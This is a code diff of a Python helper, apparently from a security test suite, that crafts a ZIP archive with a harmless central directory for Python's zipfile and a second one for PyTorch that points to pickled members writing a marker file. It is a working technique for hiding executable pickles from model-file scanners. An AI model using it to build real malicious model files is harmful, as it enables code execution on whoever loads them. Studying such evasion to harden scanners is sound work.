@@ -77,15 +77,14 @@ def directory(archive: bytes) -> tuple[int, bytes]:
 
 def with_locator(members: Members, marker: Path) -> bytes:
     """Puts a harmless directory where `zipfile` looks, and points to another one, as torch reads it."""
-    evil = pack(pickled(members, marker))
-    low, evil_directory = directory(evil)
+    harmless = pack(members)
+    low, harmless_directory = directory(harmless)
     file = io.BytesIO()
-    file.write(evil[:low])
-    both = pack(members, file)
-    start, harmless_directory = directory(both)
-    data = both[:start] + evil_directory
+    file.write(harmless[:low])
+    data = pack(pickled(members, marker), file)
+    start, evil_directory = directory(data)
+    data, count = data[:-22], len(members)
     end = len(data)
-    count = len(members)
 
     def end_record(size: int, offset: int) -> bytes:
         return struct.pack("<4sQHHLLQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, offset)
